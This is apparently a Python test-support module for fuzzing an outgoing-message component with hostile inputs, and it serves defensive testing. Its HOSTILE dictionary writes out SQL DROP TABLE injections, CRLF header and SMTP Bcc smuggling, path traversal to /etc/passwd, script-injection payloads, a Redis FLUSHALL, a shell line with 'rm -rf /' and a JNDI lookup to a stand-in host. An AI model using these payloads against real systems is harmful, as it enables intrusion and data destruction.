"""Texts that would change the shape of what is sent, if anything could; and how to make more of them."""

from __future__ import annotations

from collections.abc import Callable
from typing import Any

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

HOSTILE = {
    "empty": "",
    "space": " ",
    "spaces around": "  a \t",
    "null": "null",
    "number": "007",
    # SQL
    "sql or": "' OR '1'='1",
    "sql drop": "x'); DROP TABLE victims; --",
    "sql double quote": '"; DELETE FROM victims; --',
    "sql comment": "/* */ -- #",
    "sql dollar": "$$; DROP TABLE victims; $$ $1 $2 :name ? %s %(a)s @x",
    "sql escape": "\\'; DROP TABLE victims; --",
    "sql e-string": "E'\\x27'",
    "sql like": "%_\\%",
    "sql array": '{"a",b}',
    "sql fullwidth quote": "＇ OR ＇1＇=＇1",
    "quotes": "\"'`´‘’“”",
    "backslash": "\\",
    "backslashes": "\\\\n\\0\\u0000",
    # ends of lines and of texts
    "zero": "a\0b",
    "zero alone": "\0",
    "cr lf": "a\r\nX-Evil: 1",
    "lf": "a\nb",
    "cr": "a\rb",
    "request": "\r\n\r\nGET /evil HTTP/1.1\r\nHost: evil.example\r\n\r\n",
    "chunk": "0\r\n\r\nPOST /evil HTTP/1.1\r\n\r\n",
    "encoded cr lf": "%0d%0aX-Evil: 1",
    "line separators": "a\u2028b\u2029c\x85d\x0be\x0cf",
    "control": "\x01\x1b[31m\x7f\x9b",
    "tab": "a\tb",
    # addresses
    "parent": "..",
    "parents": "../../etc/passwd",
    "parents encoded": "%2e%2e/%2e%2e%2f",
    "dot": ".",
    "backslash parents": "..\\..\\x",
    "other server": "//evil.example",
    "whole address": "https://evil.example/",
    "scheme": "javascript:alert(1)",
    "user": "user:pass@evil.example",
    "at": "@evil.example",
    "fragment": "a#b",
    "query": "?a=b&c=d;e=f",
    "plus": "a+b%20c%",
    "matrix": ";a=b",
    # wildcards
    "wildcard": "{id}",
    "wildcard of the envelope": "{event.id}",
    "wildcard with a pipe": "{secret | json}",
    "braces": "{{id}} }} {{ { }",
    # Unicode
    "right to left": "\u202egnp.exe\u2066",
    "combining": "e\u0301\u0327",
    "composed": "é",
    "zero width": "\u200b\u200d\ufeff",
    "emoji": "👩‍👩‍👧 🤖",
    "non-character": "\uffff\ufffe\U0010ffff",
    "half width": "ﾊﾝ／．．／＜script＞",
    "dotless": "ıİſK",
    "long": "x" * 70_000,
    "long name": "n" * 70,
    "long emoji": "🤖" * 300,
    # Redis
    "resp": "\r\n*3\r\n$3\r\nSET\r\n$1\r\nx\r\n$1\r\n1\r\n",
    "resp inline": "\r\nFLUSHALL\r\n",
    "glob": "*?[a-z]",
    # markup
    "script": "<script>alert(1)</script>",
    "attribute": '" onmouseover="alert(1)',
    "attribute's quote": "' onerror='alert(1)",
    "entity": "&amp;&#60;&lt",
    "cdata": "]]><!--",
    "slack": "<!channel> <@U123> <https://evil.example|here> &lt;!here&gt;",
    # JSON
    "json": '","evil":"1',
    "json end": '"}]}\n{"evil": 1}',
    "json escape": '\\","evil":1,"a":"\\',
    "proto": "__proto__",
    # mail
    "smtp end": "\r\n.\r\nMAIL FROM:<evil@evil.example>\r\n",
    "smtp dot": ".\n..\n.",
    "bcc": "x\r\nBcc: evil@evil.example",
    "bcc without line end": "Bcc: evil@evil.example",
    "encoded word": "=?utf-8?q?evil?= =?utf-8?b?ZXZpbA==?=",
    "addresses": "a@evil.example, b@evil.example",
    "from": "From here\n>From there",
    "boundary": "--===============1==\nContent-Type: text/html\n\n<b>",
    # printf and shells
    "shell": "$(id) `id` ; rm -rf / | & > x",
    "format": "%n%s%x{0}${jndi:ldap://evil.example}",
}

FRAGMENTS = (
    "'",
    '"',
    "\\",
    "\r\n",
    "\n",
    "\0",
    "%",
    "..",
    "/",
    "{",
    "}",
    "<",
    "&",
    "=?",
    "?=",
    ";",
    ",",
    "@",
    "--",
    " ",
)

TEXTS = st.one_of(
    st.text(),
    st.lists(st.one_of(st.sampled_from(FRAGMENTS), st.text(max_size=2))).map("".join),
    st.lists(st.sampled_from([text for text in HOSTILE.values() if len(text) < 100]), max_size=3).map("".join),
)

each_hostile = pytest.mark.parametrize("text", HOSTILE.values(), ids=HOSTILE.keys())
"""Each text of the list, as `text`."""


def any_text(examples: int) -> Callable[[Any], Any]:
    """As many texts as that, as `text`."""
    quiet = settings(max_examples=examples, deadline=None, suppress_health_check=list(HealthCheck))
    return lambda test: quiet(given(text=TEXTS)(test))


NORMAL, NIGHTLY = 200, 5_000
